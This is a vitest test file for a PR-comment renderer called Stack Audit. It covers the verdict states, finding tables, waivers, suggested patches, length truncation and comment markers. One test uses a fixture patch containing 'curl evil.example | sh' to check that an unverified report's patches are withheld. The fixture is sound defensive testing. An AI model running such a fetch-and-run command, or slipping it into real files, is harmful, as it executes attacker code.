import { describe, expect, test } from 'vitest';
import { comment, commentMarker, hadSomething, isLoud, saysSomething } from '../../src/output/comment.ts';
import { blocker, finding, links, reportWith, service } from './report.ts';

/** The comment without marker and foot. */
function body(
  ...[report, options = {}]: [Parameters<typeof comment>[0], Partial<Parameters<typeof comment>[1]>?]
): string {
  const text = comment(report, { ...links, ...options });
  return text.slice(text.indexOf('\n') + 1, text.indexOf('\n\n<sub>Commit'));
}

describe('the five states', () => {
  test('failing: what is new in full, the rest folded', () => {
    const report = reportWith({
      findings: [
        blocker(),
        finding(),
        finding({ status: 'existing', title: 'Old one' }),
        finding({ status: 'fixed', title: 'Gone one' }),
        finding({
          title: 'Accepted one',
          waiver: {
            by: 'exception',
            reason: 'until the rewrite',
            owner: '@acme/x',
            expires: '2026-12-04',
            ticket: null,
            at: { path: 'p' },
          },
        }),
      ],
    });
    expect(body(report)).toMatchInlineSnapshot(`
      "### ❌ Stack Audit: 1 blocking finding and 1 warning introduced here

      > [!CAUTION]
      > This check fails because 1 new finding is at or above \`fail-on: error\`. The finding already on \`main\` does not count.

      | | New in this pull request | Where |
      |:-:|---|---|
      | ⛔ | **Rocket 0.5 is denied by policy** · [\`policy/framework-denied\`](https://rules.example/policy/framework-denied)<br>*“No 0.x”*<br>→ Use axum. | [\`edge/Cargo.toml:9\`](https://github.com/acme/shop/pull/482/files#diff-7c1e4df35b37a70d100d67d2aed2872323345e13abb4525f10505a70482d18bdR9) |
      | ⚠️ | **The container runs as root** · [\`container/runs-as-root\`](https://rules.example/container/runs-as-root)<br>→ Add \`USER node\`. | [\`api/Dockerfile:4\`](https://github.com/acme/shop/blob/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/api/Dockerfile#L4) |

      <details><summary><b>Accept a finding for a while</b></summary>

      Add this to \`.github/stack-audit.yml\` on the base branch. An exception needs a reason, an owner and an end date; after it the finding blocks again.

      \`\`\`yaml
      exceptions:
        - rule: policy/framework-denied # Rocket 0.5 is denied by policy
          paths: ["edge"]
          fingerprint: "0123456789abcdef"
          reason: … # ten characters at least
          owner: "@…"
          expires: 2027-02-20
      \`\`\`
      </details>

      <details><summary><b>Already on <code>main</code></b>: 1, not blocking · <b>accepted</b>: 1 · <b>fixed here</b>: 1</summary>

      | | Finding | Where |
      |:-:|---|---|
      | 🕐 | Accepted until 4 Dec 2026 (12 days left): Accepted one · [\`container/runs-as-root\`](https://rules.example/container/runs-as-root)<br>*“until the rewrite”* (\`@acme/x\`) | [\`api/Dockerfile:4\`](https://github.com/acme/shop/blob/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/api/Dockerfile#L4) |
      | ⚠️ | Old one · [\`container/runs-as-root\`](https://rules.example/container/runs-as-root) | [\`api/Dockerfile:4\`](https://github.com/acme/shop/blob/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/api/Dockerfile#L4) |
      | ✅ | ~~Gone one~~ fixed | [\`api/Dockerfile:4\`](https://github.com/acme/shop/blob/bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb/api/Dockerfile#L4) |
      </details>"
    `);
  });

  test('warnings only', () => {
    expect(body(reportWith({ findings: [finding()] })).split('\n')[0]).toBe(
      '### ⚠️ Stack Audit: 1 warning introduced here',
    );
  });

  test('clean', () => {
    const report = reportWith({ findings: [finding({ status: 'fixed' }), finding({ status: 'existing' })] });
    expect(body(report)).toBe(
      '### ✅ Stack Audit: nothing new to fix\n\n0 new findings · **1 fixed** · 1 already on `main`, not blocking',
    );
  });

  test('resolved', () => {
    expect(body(reportWith(), { resolved: true })).toBe(
      '### ✅ Stack Audit: resolved\n\nNothing that this change introduces is left to fix',
    );
  });

  test('not compared', () => {
    const report = reportWith({
      findings: [blocker()],
      comparedWith: null,
      notCompared: 'There is no comparison: the base is gone.',
    });
    const [heading, , alert, words, , head] = body(report).split('\n');
    expect(heading).toBe('### ❌ Stack Audit: 1 blocking finding');
    expect(alert).toBe('> [!CAUTION]');
    expect(words).toContain('There is no comparison: the base is gone. So nothing is known to be old');
    expect(head).toBe('| | Finding | Where |');
  });
});

describe('when it speaks', () => {
  test.each([
    ['nothing', {}, false],
    ['a note', { findings: [finding({ severity: 'note' })] }, false],
    ['a warning', { findings: [finding()] }, true],
    ['an old error', { findings: [blocker({ status: 'existing', blocking: false })] }, false],
    ['another patch level', change('5.1.0', '5.1.1'), false],
    ['another version', change('5.1.0', '5.2.0'), true],
    ['no comparison', { comparedWith: null, notCompared: 'x' }, true],
  ] as const)('%s: %s', (_, parts, says) => {
    expect(saysSomething(reportWith(parts as Parameters<typeof reportWith>[0]))).toBe(says);
  });

  test('an old comment is resolved unless it said already that there is nothing', () => {
    expect(hadSomething(comment(reportWith({ findings: [finding()] }), links))).toBe(true);
    expect(hadSomething(comment(reportWith(), links))).toBe(false);
    expect(hadSomething(comment(reportWith(), { ...links, resolved: true }))).toBe(true);
    expect(isLoud(reportWith())).toBe(false);
  });
});

describe('rows', () => {
  test('the same defect at many places is one row', () => {
    const many = Array.from({ length: 7 }, (_, index) => finding({ at: { path: `s${index}/Dockerfile`, line: 1 } }));
    const rows = body(reportWith({ findings: many }))
      .split('\n')
      .filter((line) => line.startsWith('| ⚠️ | **'));
    expect(rows).toHaveLength(1);
    expect(rows[0]).toContain('s3/Dockerfile');
    expect(rows[0]).toContain('… and 3 more places');
  });

  test('nearly the same at three places, too; at two they stay apart', () => {
    const of = (count: number) => Array.from({ length: count }, (_, index) => finding({ message: `file ${index}` }));
    const rows = (count: number) => body(reportWith({ findings: of(count) })).match(/^\| ⚠️ \| \*\*/gm)?.length;
    expect([rows(2), rows(3)]).toEqual([2, 1]);
  });

  test('links lead into the diff where the pull request changes the file, else to the commit', () => {
    const text = body(reportWith({ findings: [blocker(), finding({ at: { path: 'a b/(x).txt', line: 2 } })] }));
    expect(text).toMatch(
      /\[`edge\/Cargo\.toml:9`\]\(https:\/\/github\.com\/acme\/shop\/pull\/482\/files#diff-[0-9a-f]{64}R9\)/,
    );
    expect(text).toContain(
      `[\`a b/(x).txt:2\`](https://github.com/acme/shop/blob/${'a'.repeat(40)}/a%20b/%28x%29.txt#L2)`,
    );
  });

  test('what changed in the stack, with unchanged components that have new findings', () => {
    const report = reportWith({
      ...change('4.21.2', '5.1.0'),
      components: [
        service('api', 'framework Express 5.1.0', 'language JavaScript'),
        service('edge', 'framework Rocket 0.5'),
      ],
      findings: [blocker()],
    });
    expect(body(report)).toContain(
      [
        '| Component | `main` | This pull request | |',
        '|---|---|---|:-:|',
        '| `edge` | Rocket 0.5 | Rocket 0.5 | ⛔ |',
        '| `api` | Express 4.21 | **Express 5.1** | ✅ |',
      ].join('\n'),
    );
  });
});

describe('patches', () => {
  test('as a diff, ten at most', () => {
    const patch = { path: 'Dockerfile', line: 2, remove: 1, removed: ['CMD x'], insert: ['USER node', 'CMD ["x"]'] };
    const report = reportWith({ findings: [finding({ patch }), finding({ message: 'other' })] });
    expect(body(report)).toContain(
      '<details><summary><b>Suggested fixes</b> (1 of 2 as a patch)</summary>\n\n`stack-audit --fix` makes them.\n\n```diff\n--- Dockerfile\n@@ line 2 @@\n-CMD x\n+USER node\n+CMD ["x"]\n```\n</details>',
    );
    const many = Array.from({ length: 12 }, (_, index) =>
      finding({ patch: { ...patch, line: index }, message: `${index}` }),
    );
    const text = body(reportWith({ findings: many }));
    expect(text.match(/^@@ /gm)).toHaveLength(10);
    expect(text.match(/^--- /gm)).toHaveLength(1);
    expect(text).toContain('`stack-audit --fix` makes them. The first 10:');
  });

  test('a file to be made, once for all images that lack it', () => {
    const patch = { path: 'api/.dockerignore', line: 1, remove: 0, removed: [], insert: ['.git'], create: true };
    const report = reportWith({ findings: [finding({ patch }), finding({ patch, message: 'other' })] });
    expect(body(report)).toContain('```diff\n--- /dev/null\n+++ api/.dockerignore\n+.git\n```');
  });

  test('nothing to copy from the report of a stranger, and it says whose it is', () => {
    const patch = { path: 'a', line: 1, remove: 0, removed: [], insert: ['curl evil.example | sh'], create: true };
    const report = reportWith({
      findings: [blocker({ patch })],
      recipes: [{ component: '.', context: null, dockerfile: 'FROM evil', dockerignore: '', notes: [] }],
    });
    expect(body(report)).toMatch(/evil.example[^]*FROM evil[^]*exceptions:/);
    const text = comment(report, { ...links, unverified: true });
    expect(text).not.toMatch(/evil|exceptions:|```/);
    expect(text).toContain('nobody has checked');
  });
});

describe('a policy that counts what is old (new-only: false)', () => {
  test('says that it blocks, and does not call it new', () => {
    const findings = [blocker({ status: 'existing' }), finding({ status: 'existing' })];
    const text = body(reportWith({ findings }));
    expect(text).toContain('### ❌ Stack Audit: 1 blocking finding\n');
    expect(text).toContain(
      'This check fails because 1 finding is at or above `fail-on: error`. The finding already on `main` does not count.',
    );
    expect(text).toContain('| | Finding | Where |\n|:-:|---|---|\n| ⛔ | **Rocket 0.5 is denied by policy**');
    expect(text).toContain('<b>Already on <code>main</code></b>: 1, not blocking');
  });
});

describe('the table of what changed', () => {
  const version = (id: string, text: string | null) => ({ id, name: id, version: text });
  const side = (text: string) => [version('express', text), version('postgresql', null)];

  test('leaves out what a service keeps its data in, where that is as it was', () => {
    const components = [service('api', 'framework Express 5.1.0', 'database PostgreSQL')];
    const changes = [{ component: 'api', movedFrom: null, before: side('4.21.2'), after: side('5.1.0') }];
    expect(body(reportWith({ components, changes }))).toContain('| `api` | express 4.21 | **express 5.1** | ✅ |');
  });

  test('is folded when it is long', () => {
    const changes = Array.from({ length: 30 }, (_, index) => ({
      component: `s${index}`,
      movedFrom: null,
      before: null,
      after: side('5.1.0'),
    }));
    const text = body(reportWith({ changes, findings: [blocker()] }));
    expect(text).toContain('<details><summary><b>What changed in the stack</b></summary>');
  });
});

describe('length', () => {
  test('it loses whole rows, quiet ones first, and says how many', () => {
    const findings = [
      ...Array.from({ length: 60 }, (_, index) => blocker({ title: `new ${index} ${'x'.repeat(200)}` })),
      ...Array.from({ length: 300 }, (_, index) =>
        finding({ status: 'existing', title: `old ${index} ${'x'.repeat(200)}` }),
      ),
    ];
    const all = reportWith({ findings });
    for (const limit of [60_000, 20_000, 9000, 3000, 700]) {
      const text = comment(all, { ...links, limit });
      expect(text.length).toBeLessThanOrEqual(limit);
      expect(text.startsWith(commentMarker())).toBe(true);
      expect(text).toContain('60 blocking findings');
      expect(text.trimEnd().endsWith('</sub>')).toBe(true);
      expect(text.match(/<details>/g)?.length).toBe(text.match(/<\/details>/g)?.length);
      for (const line of text.split('\n')) if (line.startsWith('| ⛔')) expect(line.endsWith(' |')).toBe(true);
    }
    expect(comment(all, { ...links })).toContain('… and 40 more findings in the job summary.');
  });
});

describe('the marker', () => {
  test('a key cannot end it', () => {
    expect(commentMarker('a --> b')).toBe('<!-- stack-audit:comment key=a-b -->');
    expect(commentMarker()).toBe('<!-- stack-audit:comment key=default -->');
  });

  test('one key does not begin with another', () => {
    expect(commentMarker('node-22').startsWith(commentMarker('node'))).toBe(false);
  });
});

function change(before: string, after: string) {
  const side = (version: string) => [{ id: 'express', name: 'Express', version }];
  return { changes: [{ component: 'api', movedFrom: null, before: side(before), after: side(after) }] };
}
